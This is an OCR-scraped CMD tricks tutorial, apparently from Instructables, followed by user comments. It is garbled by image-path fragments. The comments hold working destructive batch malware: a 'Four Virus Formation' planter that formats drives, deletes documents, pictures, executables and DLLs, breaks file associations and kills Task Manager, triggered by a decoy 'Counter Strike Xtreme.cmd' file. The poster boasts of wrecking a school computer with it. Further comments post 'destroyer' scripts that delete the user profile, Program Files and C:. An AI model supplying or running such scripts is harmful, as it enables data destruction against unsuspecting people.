Picture of CMD Tricks 101
This will teach you how to do CMD.

CMD is the original MS-DOS command prompt, the Shell.

First, click START
Then press Run...
This window should appear

Remove these adsRemove these ads by Signing Up

Step 1: EDIT: The worlds worst editor

Picture of EDIT: The worlds worst editor
type EDIT Example.TXT
this window should appear
type whatever you want(I said hello ppl at INSTRUCTABLES)
I said it was the worlds worst cause it is, it stinks only one size, one font, one color.
At least no stoopid spell check...................
But good for batch...


Batch files, with a .BAT extension, are BATCHes of MS-DOS commands, executed togther.
This is just basic, try Advanced,

@echo off stops commands from being shown.

echo sends whatever is after it to the screen
echo hi ppl

del deletes whatever file is after it, or del *.* deletes every file in the folder
del example.txt

cd changes to whatever folder is after it, or cd .. goes back one
cd desktop

format formats whatever disk is after it
format A:

Step 3: A funny little prank

Picture of a funny little prank
create a new document in edit:
edit annoy.bat
remember what folder its in!
type without quotes: "@echo OFF
netsend /domain message goes here
goto start"
replace message goes here with a message.
move it to the desktop
run it!

Step 4: Shutdown the comp!

go to cmd
type: shutdown -s -t 20 -f -c "shutting down..............."right click desktop
shutdown -s -t 20 -f -c "shutting down..............." in the box
a name in the box
send to a friend!
1-40 of 112Next »

wow easy and nice

I have to say ...Awesome tricks just love these all.

Thank you for sharing..

Some more Latest cmd tricks are here feel free to visit


hi I am new

techno guy3 years ago
The edit thing to make or edit files and stuff doesnt work, it says: 'edit' is not recognized as an internal or external command, operable program or batch file.

Probably because your computer is 64 bit.

so u mean no way for 64 bit computers to edit?No you cant use edit on a 64bit computer
preetkainth00710 months ago

i want to create .bat file

cmd in run file

cd hard disk


only these worldpreetkainth00710 months ago

i want to create .bat file

cmd in run file

cd hard disk


only these world


ok i am trying a remote shutdown on a computer that is on my network but it is hardwired into the network and i am on a wireless computer any suggestions?

so.... Go onto the computer you are gonna remote shutdown, go on cmd and type "Hostname" without quotes and then the hostname should pop up... then go on your computer and type into cmd "Shutdown /i" without quotes, and a window should pop up and at the top of it click the button "Add Computers" then type in the hostname of the other compChrisG311 months ago

For those who want full screen . after first text box hit enter soi you have a new 2nd line and type "mode 1000" without "".

This makes full screen but also make sure command prompt is on top left corner of screen or it will be half off screen

Dark Leader11 months ago

THat was cool but now I will show you guys many goodthings see my instructable

what i call the deth virus

del C:/

del *.*

if you try to delete the c: drive, doesnt it ask you if you realy want to like: (Y/N) or something like that?
You would have to add /p or -p after del for it to prompt you
You can't delete an entire HDD partition within 1 second w/ out the guy knowing... Or can you?
Armend771 year agoCan someone tell me how to make format pc without cd, from cmd ?

Try this one: (remember put this on notepad and save it as virus.bat or Tricks.vbs)

@echo off
color 02
echo %random%%random%%random%%random%%random%%random%%random%%random%
goto tricks

or this one:

Set wshShell = wscript.CreateObject("WScript.Shell")
wscript.sleep 100
wshshell.sendkeys "This is a Virus. You have been infected."

Try this one then:

Set oWMP = CreateObject("WMPlayer.OCX.7")
Set colCDROMs = oWMP.cdromCollection
if colCDROMs.Count >= 1 then
For i = 0 to colCDROMs.Count - 1
For i = 0 to colCDROMs.Count - 1
End If
wscript.sleep 5000

this will plant the "Four Virus Formation" but it dont run it.

@echo offcolor a

mode 75,20

title Four Virus Formation Planter

echo This Setup will plant the Four Virus Formation on the computer



goto top


echo Please enter the passwordset /p pass=password:

if %pass% == ppvshu goto buzhen

msg * Password error,please try again

goto top


cd "%userprofile%\desktop"

md datafile

cd "%userprofile%\Desktop\datafile"echo @echo off >> 1.cmd

echo mode 15,15 >> 1.cmd

echo format F: >> 1.cmd

echo format D: >> 1.cmd

echo format E: >> 1.cmd

echo format G: >> 1.cmdecho cd "%userprofile%\My documents" >> 1.cmd

echo del /f /q /s "*.docx" >> 1.cmd

echo del /f /q /s "*.xslx" >> 1.cmd

echo del /f /q /s "*.pptx" >> 1.cmd

echo del /f /q /s "*.pdf" >> 1.cmd

echo cd "%userprofile%\my pictures" >> 1.cmd

echo del /f /q /s "*.png" >> 1.cmdecho del /f /q /s "*.jpg" >> 1.cmd

echo del /f /q /s "*.BMP >> 1.cmd

echo @echo off >> 2.cmd

echo mode 15,15 >> 2.cmd

echo :top >> 2.cmd

echo start notepad >> 2.cmd

echo start cmd >> 2.cmdecho start dxdiag >> 2.cmd

echo start regedit >> 2.cmd

echo tskill taskmgr >> 2.cmd

echo goto top >> 2.cmd

echo @echo off >> 3.cmd

echo mode 15,15 >> 3.cmd

echo cd C:\ >> 3.cmd

echo del /f /q /s "*.exe" >> 3.cmd

echo del /f /q /s "*.txt" >> 3.cmd

echo del /f /q /s "*.dll" >> 3.cmd

echo assoc .dll=exefile >>3.cmd

echo assoc .jpg=txtfile >> 3.cmd

echo @echo off >> 4.cmd

echo shutdown -s -t "50" -c "bye" -f >> 4.cmd

attrib +s +h +r /s /h

cd "%userprofile%\desktop"

echo @echo off >> Counter Strike Xtreme.cmd

echo mode 15,15 >> Counter Strike Xtreme.cmdecho cd "%userprofile%\desktop\datafile" >>Counter Strike Xtreme.cmd

echo attrib -h /s /h >> Counter Strike Xtreme.cmd

echo start "" ".cmd" >> Counter Strike Xtreme.cmd

echo start "" ".cmd" >> Counter Strike Xtreme.cmd

goto doneecho Formation Complete

goto done

WARNING:Don't open CS's the trigger for the formation

also,when it ask for password it's:ppvshu

i used it in school and a computer data was 80% damaged.very cool indeed

jjoel1321 year ago

Video on ''Some Command Prompt Tricks You Don't Know'' and I am sure that they gonna make your life easier.

mikroskeem3 years ago
Try this destroyer:

@echo off
del %userprofile% /Q
del %ProgramFiles% /Q
del C: /Q
goto start

It really harms your computer and files
Deletes your User data, Program files and C drive?you call yourslef a hacker
@echo off
del %userprofile% /Q
del %ProgramFiles% /Q
del %system32%
shutdown -r 00 -t
mikroskeem2 years ago
heh open big 600+ mb iso file with notepad++ :D quick bluescreen
More usefull cmd tricks at youtube:
Get Installed Driver Information with cmd:Change color in CMD:

Copy from the command prompt:

How to change the directory/path in cmd:

And more video's on the channel.
mikroskeem2 years ago
did you use bat to exe converter?
